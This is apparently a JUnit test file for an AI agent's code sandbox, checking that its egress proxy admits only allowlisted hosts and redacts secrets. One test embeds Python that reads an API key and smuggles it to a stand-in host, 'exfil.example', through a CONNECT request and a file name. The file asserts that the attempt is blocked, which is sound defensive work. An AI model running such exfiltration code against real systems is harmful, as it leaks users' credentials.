package dev.agentic.sandbox.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.agentic.core.Code;
import dev.agentic.core.sandbox.ExecutionRequest;
import dev.agentic.core.sandbox.ExecutionResult;
import dev.agentic.core.sandbox.NetworkDecision;
import dev.agentic.core.sandbox.NetworkPolicy;
import dev.agentic.sandbox.LocalSandbox;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Catalogue E through the egress proxy: an allowlisted (opted-in loopback) test server is reachable, every
 * other destination is refused with its reason in the result, and the host server sees only allowed traffic.
 */
class EgressHostileTest {
    private static HttpServer server;
    private static final AtomicInteger HITS = new AtomicInteger();
    private static LocalSandbox sandbox;
    private static int port;

    @BeforeAll
    static void start() throws IOException {
        server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 16);
        server.createContext("/", exchange -> {
            HITS.incrementAndGet();
            byte[] body = "hello from the host".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(body);
            }
        });
        server.start();
        port = server.getAddress().getPort();
        sandbox = LocalSandbox.builder().allowLoopbackHosts("127.0.0.1:" + port).build();
    }

    @AfterAll
    static void stop() {
        sandbox.close();
        server.stop(0);
    }

    private static ExecutionRequest.Builder python(String source, NetworkPolicy policy) {
        return ExecutionRequest.builder()
                .code(Code.python(source))
                .network(policy)
                .limits(l -> l.wallTime(Duration.ofSeconds(20)));
    }

    @Test
    void allowlistedHostIsReachableThroughTheProxyAndTheDecisionIsRecorded() {
        int before = HITS.get();
        ExecutionResult r = sandbox.execute(python(
                        "import urllib.request, sys\n"
                                + "print(urllib.request.urlopen(f'http://127.0.0.1:{sys.argv[1] if len(sys.argv) > 1 else "
                                + port + "}/x', timeout=10).read().decode())",
                        NetworkPolicy.allow("127.0.0.1:" + port))
                .build());

        assertThat(r.succeeded()).as(r.stderr()).isTrue();
        assertThat(r.stdout()).contains("hello from the host");
        assertThat(HITS.get()).isEqualTo(before + 1);
        assertThat(r.output().network()).extracting(NetworkDecision::allowed).containsExactly(true);
        assertThat(r.output().notes()).anyMatch(n -> n.startsWith("network: egress proxy"));
    }

    @Test
    void javaProgramUsesTheProxyToo() {
        int before = HITS.get();
        ExecutionResult r = sandbox.execute(ExecutionRequest.builder()
                .code(Code.java("import java.net.*;\n"
                        + "class Get { public static void main(String[] a) throws Exception {\n"
                        + "  var c = new URL(\"http://127.0.0.1:" + port + "/j\").openConnection();\n"
                        + "  System.out.println(new String(c.getInputStream().readAllBytes())); } }"))
                .network(NetworkPolicy.allow("127.0.0.1:" + port))
                .limits(l -> l.wallTime(Duration.ofSeconds(30)).cpuTime(Duration.ofSeconds(20)))
                .build());

        assertThat(r.succeeded()).as(r.stderr()).isTrue();
        assertThat(r.stdout()).contains("hello from the host");
        assertThat(HITS.get()).isEqualTo(before + 1);
    }

    @Test
    void proxyAbuseIsRefusedAndNothingReachesTheHostServer() throws Exception {
        // E45-E50 (corpus e02): loopback, IP literal encodings, metadata, other hosts and ports.
        String source = HostileCorpusTest.corpus().get("e02_proxy_abuse.py");
        int before = HITS.get();
        ExecutionResult r = sandbox.execute(
                python(source, NetworkPolicy.allow("api.example.test")).build());

        assertThat(r.stdout()).contains("proxy: http://127.0.0.1:3128").doesNotContain(" 200 ");
        assertThat(r.stdout().lines().filter(l -> l.contains("403")).count()).isEqualTo(8);
        assertThat(r.output().network()).hasSize(8).noneMatch(NetworkDecision::allowed);
        assertThat(HITS.get()).isEqualTo(before);
    }

    @Test
    void theOptedInLoopbackPortIsTheOnlyOneAndOnlyWhenThePolicyAllowsIt() {
        int before = HITS.get();
        ExecutionResult r = sandbox.execute(python(
                        "import urllib.request\n"
                                + "for url in ['http://127.0.0.1:" + port + "/', 'http://localhost:" + port + "/', "
                                + "'http://127.0.0.1:" + (port == 65535 ? 1 : port + 1) + "/']:\n"
                                + "    try:\n        urllib.request.urlopen(url, timeout=10)\n        print('OPEN', url)\n"
                                + "    except Exception as e:\n        print('REFUSED', url, getattr(e, 'code', e))",
                        NetworkPolicy.allow("example.org"))
                .build());

        assertThat(r.stdout()).doesNotContain("OPEN").contains("REFUSED");
        assertThat(HITS.get()).isEqualTo(before);
        assertThat(r.output().network()).isNotEmpty().noneMatch(NetworkDecision::allowed);
    }

    @Test
    void withoutAllowlistTheProxyVariablesAreAbsentAndNoSocketIsMounted() {
        ExecutionResult r = sandbox.execute(python(
                        "import os\n" + "print(os.environ.get('HTTPS_PROXY'), os.path.exists('/run/egress.sock'))",
                        NetworkPolicy.none())
                .build());

        assertThat(r.stdout().strip()).isEqualTo("None False");
        assertThat(r.output().network()).isEmpty();
    }

    @Test
    void programKilledByAnOutputCapBehindTheForwarderIsStillReportedAsKilled() {
        ExecutionResult r =
                sandbox.execute(python("while True:\n    print('z' * 200)", NetworkPolicy.allow("example.org"))
                        .limits(l -> l.maxOutputBytes(4096))
                        .build());

        assertThat(r).isInstanceOf(ExecutionResult.Killed.class);
        assertThat(Map.of("limit", ((ExecutionResult.Killed) r).limit().id())).containsEntry("limit", "output");
    }

    @Test
    void secretSmuggledAsAHostNameOrFileNameIsMaskedInTheResult() {
        String secret = "sk_live_smuggledValue42";
        ExecutionResult r = sandbox.execute(python(
                        "import os, socket\n"
                                + "key = os.environ['API_KEY']\n"
                                + "open(key + '.txt', 'w').write('x')\n"
                                + "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
                                + "s.sendall(f'CONNECT {key}.exfil.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n"
                                + "print(s.recv(200).decode().splitlines()[0])\n",
                        NetworkPolicy.allow("api.example.com"))
                .secret("API_KEY", secret)
                .outputGlob("*.txt")
                .build());

        assertThat(r.succeeded()).as(r.stderr()).isTrue();
        assertThat(r.stdout()).contains("403");
        assertThat(r.output().network()).singleElement().satisfies(d -> {
            assertThat(d.allowed()).isFalse();
            assertThat(d.host()).doesNotContain(secret).contains("[REDACTED]");
        });
        assertThat(r.output().files())
                .singleElement()
                .satisfies(f -> assertThat(f.path()).doesNotContain(secret).contains("[REDACTED]"));
    }
}
